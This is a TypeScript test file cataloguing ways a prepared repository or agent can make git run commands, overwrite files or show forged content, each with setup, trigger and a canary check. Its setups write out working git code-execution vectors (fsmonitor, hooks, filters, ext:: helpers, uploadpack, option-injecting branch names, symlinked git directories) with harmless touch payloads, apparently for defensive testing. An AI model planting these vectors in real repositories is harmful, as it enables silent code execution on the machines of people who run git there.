// The ways in which a repository or an agent can make a careless git run, write or show something.

import { readFileSync } from 'node:fs';

/** One way. */
export interface Vector {
  readonly id: string;
  readonly title: string;
  /** Plants it in `$W/clone`; what it makes run touches `$CANARY`. */
  readonly setup: string;
  /** What somebody careless does with git. */
  readonly trigger: string;
  /** Ends with 0 when that has harmed them. */
  readonly check: string;
  /** Whether it does, on git 2.39. */
  readonly fired: boolean;
}

const RAN = 'test -e "$CANARY"';
const SCRIPT = (path: string): string =>
  `printf '#!/bin/sh\\ntouch %s\\n' "$CANARY" > ${path}; chmod +x ${path}`;
const ALL_HOOKS = [
  'applypatch-msg pre-commit prepare-commit-msg commit-msg post-commit pre-merge-commit post-merge',
  'pre-rebase post-checkout post-rewrite pre-push pre-receive update post-receive post-update',
  'reference-transaction post-index-change pre-auto-gc push-to-checkout fsmonitor-watchman',
].join(' ');

function config(id: string, key: string, value: string, trigger: string): Vector {
  const setup = `git -C clone config ${key} "${value}"; echo b >> clone/a.txt`;
  return { id, title: key, setup, trigger, check: RAN, fired: true };
}

function more(
  id: string,
  setup: string,
  trigger: string,
  { check = RAN, fired = true }: { readonly check?: string; readonly fired?: boolean } = {},
): Vector {
  return { id, title: id, setup, trigger, check, fired };
}

/** What the collection lacks; most of it is a neighbour of something there. */
const MORE: readonly Vector[] = [
  config('fsmonitor', 'core.fsmonitor', 'touch $CANARY; :', 'git -C clone status'),
  more(
    'every-hook',
    `mkdir -p clone/.git/hooks; for h in ${ALL_HOOKS}; do ${SCRIPT('clone/.git/hooks/$h')}; done`,
    'cd clone; git commit -qam x; git checkout -q -b y; git update-ref refs/x HEAD',
  ),
  more(
    'include',
    'printf "[core]\\n\\tfsmonitor = touch $CANARY; :\\n" > inc; git -C clone config include.path "$W/inc"',
    'git -C clone status',
  ),
  more(
    'include-if',
    'printf "[core]\\n\\tfsmonitor = touch $CANARY; :\\n" > inc2; git -C clone config "includeIf.gitdir:/**.path" "$W/inc2"',
    'git -C clone status',
  ),
  more(
    'ask-pass',
    `${SCRIPT('clone/ask')}; git -C clone config core.askPass "$W/clone/ask"`,
    'printf "protocol=http\\nhost=127.0.0.1:9\\n\\n" | git -C clone credential fill',
  ),
  more(
    'receive-pack',
    'git init -q --bare there.git; git -C clone remote set-url origin "$W/there.git"; git -C clone config remote.origin.receivepack "touch $CANARY; git-receive-pack"',
    'git -C clone push -q origin HEAD:refs/heads/x',
  ),
  more(
    'upload-pack',
    'git init -q --bare there2.git; git -C clone remote set-url origin "$W/there2.git"; git -C clone config remote.origin.uploadpack "touch $CANARY; git-upload-pack"',
    'git -C clone ls-remote -q origin',
  ),
  more(
    'remote-helper',
    `mkdir -p bin; ${SCRIPT('bin/git-remote-evil')}; git -C clone remote set-url origin evil::x`,
    'PATH="$W/bin:$PATH" git -C clone ls-remote origin',
  ),
  more(
    'promisor-file',
    'cd clone; git config core.repositoryformatversion 1; git config extensions.partialClone evil; git config remote.evil.url "$W/main"; git config remote.evil.promisor true; git config protocol.file.allow always; git config protocol.ext.allow always; git config remote.evil.uploadpack "touch $CANARY; git-upload-pack"',
    'git -C clone cat-file -t 1234567890123456789012345678901234567890',
  ),
  more(
    'promisor-ext',
    'cd clone; git config core.repositoryformatversion 1; git config extensions.partialClone evil; git config remote.evil.promisor true; git config protocol.ext.allow always; git config remote.evil.url "ext::sh -c touch% $CANARY"',
    'git -C clone cat-file -t 1234567890123456789012345678901234567890',
  ),
  more(
    'signing',
    `${SCRIPT('clone/sign')}; for k in commit.gpgSign tag.gpgSign push.gpgSign; do git -C clone config $k true; done; git -C clone config gpg.program "$W/clone/sign"`,
    'git -C clone commit -q --allow-empty -m x',
  ),
  more(
    'textconv-cached',
    'cd clone; echo "* diff=x" > .git/info/attributes; git config diff.x.textconv "touch $CANARY; cat"; git config diff.x.cachetextconv true; git config diff.x.xfuncname .; echo b >> a.txt',
    'git -C clone diff',
  ),
  more(
    'required-filter',
    'cd clone; echo "* filter=x text eol=crlf ident working-tree-encoding=UTF-16" > .gitattributes; git config filter.x.required true; git config filter.x.clean "touch $CANARY; cat"; git config filter.x.smudge "touch $CANARY; cat"; echo c >> a.txt',
    'git -C clone add -A',
  ),
  // A git directory of ours that somebody has prepared.
  more(
    'own-dir',
    'mkdir -p clone/.git/tutti/git/refs clone/.git/tutti/git/objects clone/.git/tutti/git/info; cd clone/.git/tutti/git; echo "ref: refs/heads/none" > HEAD; printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = true\\n[filter \\"x\\"]\\n\\tclean = touch $CANARY; cat\\n\\tsmudge = touch $CANARY; cat\\n[merge \\"x\\"]\\n\\tdriver = touch $CANARY; :\\n[diff]\\n\\texternal = touch $CANARY; :\\n[diff \\"x\\"]\\n\\ttextconv = touch $CANARY; cat\\n" > config; echo "* filter=x merge=x diff=x" > info/attributes',
    'git --git-dir=clone/.git/tutti/git --work-tree=clone -c core.bare=false add -A',
  ),
  more(
    'own-dir-common',
    'git init -q --bare evil-own; git -C evil-own config filter.x.clean "touch $CANARY; cat"; git -C evil-own config filter.x.smudge "touch $CANARY; cat"; echo "* filter=x" > evil-own/info/attributes; mkdir -p clone/.git/tutti/git/refs clone/.git/tutti/git/objects; cd clone/.git/tutti/git; echo "ref: refs/heads/none" > HEAD; printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = true\\n" > config; echo "$W/evil-own" > commondir',
    'git --git-dir=clone/.git/tutti/git --work-tree=clone -c core.bare=false add -A',
  ),
  more(
    'own-dir-link',
    'git init -q --bare evil-link; git -C evil-link config filter.x.clean "touch $CANARY; cat"; git -C evil-link config filter.x.smudge "touch $CANARY; cat"; echo "* filter=x" > evil-link/info/attributes; mkdir -p clone/.git/tutti; ln -s "$W/evil-link" clone/.git/tutti/git',
    'git --git-dir=clone/.git/tutti/git --work-tree=clone -c core.bare=false add -A',
  ),
  more(
    'own-folder-link',
    'mkdir victim-own; echo precious > victim-own/askpass; ln -s "$W/victim-own" clone/.git/tutti',
    'echo x > clone/.git/tutti/askpass',
    { check: 'test "$(cat victim-own/askpass)" != precious' },
  ),
  more(
    'refs-link',
    'mkdir victim-refs; rm -rf clone/.git/refs/tutti; ln -s "$W/victim-refs" clone/.git/refs/tutti',
    'git -C clone update-ref refs/tutti/x HEAD',
    { check: 'test -e victim-refs/x' },
  ),
  more(
    'replace',
    'cd clone; echo evil > a.txt; b=$(git hash-object -w a.txt); git checkout -q -- a.txt; git replace "$(git rev-parse HEAD:a.txt)" $b',
    'git -C clone cat-file -p HEAD:a.txt > seen-replace',
    { check: 'grep -q evil seen-replace' },
  ),
  more(
    'branch-option',
    'cd clone; git update-ref "refs/heads/--output=pwned" HEAD; git symbolic-ref HEAD "refs/heads/--output=pwned"',
    'cd clone; git log "$(git symbolic-ref --short HEAD)"',
    { check: 'test -e clone/pwned' },
  ),
  more(
    'remote-option',
    'git -C clone config branch.main.remote "--upload-pack=touch $CANARY;"; git -C clone config "remote.--upload-pack=touch $CANARY;.url" "$W/main"',
    'git -C clone ls-remote "$(git -C clone config branch.main.remote)" main',
  ),
  more(
    'template',
    `mkdir -p tpl/hooks; ${SCRIPT('tpl/hooks/post-checkout')}; git config --global init.templateDir "$W/tpl"`,
    'git clone -q main next-tpl',
  ),
  more(
    'global-hooks',
    `mkdir -p ghooks; for h in ${ALL_HOOKS}; do ${SCRIPT('ghooks/$h')}; done; rm -f "$CANARY"; git config --global core.hooksPath "$W/ghooks"`,
    'git -C clone commit -q --allow-empty -m x',
  ),
  more(
    'global-filter',
    'git config --global filter.g.clean "touch $CANARY; cat"; git config --global filter.g.smudge "touch $CANARY; cat"; git config --global filter.g.required true; echo "* filter=g" > clone/.gitattributes; echo c >> clone/a.txt',
    'git -C clone add -A',
  ),
  more(
    'index-damaged',
    'printf "DIRC\\0\\0\\0\\11junk" > clone/.git/index',
    'git -C clone status',
    { check: 'git -C clone status', fired: false },
  ),
];

/** All there are. */
export const VECTORS: readonly Vector[] = [...recorded(), ...MORE];

function recorded(): readonly Vector[] {
  const text = readFileSync(new URL('git-vectors.jsonl', import.meta.url), 'utf8');
  return text
    .trim()
    .split('\n')
    .map((line) => {
      const vector: Vector = JSON.parse(line);
      return vector;
    });
}
